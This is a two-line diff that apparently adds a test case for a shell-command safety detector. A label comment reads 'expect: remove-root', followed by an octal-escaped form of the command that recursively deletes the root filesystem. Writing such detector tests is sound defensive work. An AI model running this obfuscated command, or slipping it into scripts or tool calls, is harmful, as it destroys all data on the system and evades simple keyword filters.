@@ -1,0 +1,2 @@
+# expect: remove-root
+$(printf '\162\155') -rf /
